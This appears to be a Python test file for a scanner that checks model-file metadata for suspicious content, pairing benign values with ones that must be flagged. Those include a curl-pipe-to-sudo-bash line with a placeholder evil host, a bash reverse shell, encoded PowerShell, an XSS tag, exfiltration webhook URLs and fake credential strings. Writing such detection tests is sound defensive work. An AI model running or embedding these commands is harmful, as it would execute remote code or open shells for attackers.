import base64

import pytest

from ringfence.artifacts.judging import judging_budget
from ringfence.artifacts.texts.suspicious_text import judge_name, judge_value
from ringfence.core.findings import Severity

HONEST = {
    "format": "pt",
    "general.description": "See https://huggingface.co/acme/tiny and run `pip install transformers`.",
    "quantize.imatrix.file": "/models_out/../imatrix/tiny.imatrix",
    "modelspec.hash_sha256": "0x" + "0123456789abcdef" * 4,
    "modelspec.thumbnail": "data:image/png;base64,"
    + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode(),
    "ss_tag_frequency": '{"1_girl": {"girl": 4, "hat": 2}}',
    "ss_sd_model_name": "../models/v1-5-pruned.ckpt",
    "ss_training_server": "http://192.168.0.7:8080/run",
    "workflow": '{"nodes": [{"type": "KSampler", "widgets_values": [1, "euler"]}]}',
    "author": "Дмитрий & Zoë",
    "tokens": "sk-learn, hf_transfer, AKIA is a prefix",
}

ODD = {
    "metadata-program": [
        "curl -s https://evil.invalid/x | sudo bash",
        "powershell.exe -NoProfile -enc SQBFAFgA",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "__import__('os').getcwd()",
        "os.system('id')",
        "#!/bin/sh\necho harmless",
        base64.b64encode(b"\x7fELF" + bytes(60)).decode(),
        base64.b64encode(b"MZ\x90" + bytes(90)).decode(),
        base64.b64encode(b"\x80\x04\x95" + bytes(60)).decode(),
        (b"\x7fELF" + bytes(60)).hex(),
        "note: " + base64.b64encode(b"#!/bin/sh\necho harmless; echo harmless").decode(),
        "<script>alert(1)</script>",
    ],
    "metadata-secret": [
        "-----BEGIN RSA PRIVATE KEY-----\nharmless",
        "AKIA" + "Q" * 16,
        "ghp_" + "a1" * 18,
        "hf_" + "aB" * 17,
        "AIza" + "x" * 35,
    ],
    "metadata-address": [
        "http://203.0.113.9/stage2",
        "https://pastebin.com/raw/abc",
        "https://discord.com/api/webhooks/1/x",
        "http://" + "a2" * 8 + ".onion",
        "file://fileserver.invalid/share",
        "https://webhook.site/x",
    ],
    "metadata-control-characters": ["tiny\x1b[31m"],
}


@pytest.mark.parametrize(("key", "value"), HONEST.items(), ids=HONEST.keys())
def test_everyday_metadata_is_clean(key: str, value: str) -> None:
    assert list(judge_value(key, value, budget=judging_budget())) == []


@pytest.mark.parametrize(
    ("check", "value"), [(check, value) for check, values in ODD.items() for value in values]
)
def test_what_has_no_business_in_metadata_is_suspicious(check: str, value: str) -> None:
    found = list(judge_value("key", value, budget=judging_budget()))
    assert check in {each.check for each in found}
    assert max(each.severity for each in found) == Severity.HIGH


def test_a_secret_is_never_shown_whole() -> None:
    (found,) = judge_value("key", "ghp_" + "a1" * 18, budget=judging_budget())
    assert found.evidence == ("key", "ghp_a1a1…")


def test_names_that_lead_out_or_mislead_are_told() -> None:
    assert [(each.check, each.severity) for each in judge_name("../../x")] == [
        ("name-leads-out", Severity.HIGH)
    ]
    assert [each.check for each in judge_name("tokenizer.\u0441hat")] == ["mixed-alphabets"]
    assert [each.check for each in judge_name("tokeniz\u0435r")] == ["mixed-alphabets"]
    assert list(judge_name("model.layers.0..weight")) == []
